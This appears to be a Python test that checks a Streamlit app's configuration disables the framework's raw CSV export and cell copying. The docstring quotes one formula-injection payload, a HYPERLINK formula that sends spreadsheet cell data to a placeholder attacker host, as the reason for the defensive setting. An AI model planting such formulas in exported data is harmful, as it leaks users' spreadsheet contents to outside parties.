"""Streamlit's own table export writes text from data as it is: its 'Download as CSV' button on every st.dataframe
(a search result titled '=HYPERLINK("http://evil.test/?"&A1,"click")' became a live formula in the spreadsheet) and
its clipboard copy of table cells (pasted into a spreadsheet, the same). The repository's config turns both off; the
app's own exports (core.io.formulas) neutralise such cells."""

from __future__ import annotations

import os
from pathlib import Path

from streamlit import config

ROOT = Path(__file__).resolve().parents[2]


def test_streamlits_raw_table_export_and_copy_are_off():
    here = os.getcwd()
    os.chdir(ROOT)  # Streamlit reads .streamlit/config.toml from the folder it is started in (`make run`)
    try:
        config.get_config_options(force_reparse=True)
        assert config.get_option("client.disableDataExport") is True
    finally:
        os.chdir(here)
        config.get_config_options(force_reparse=True)
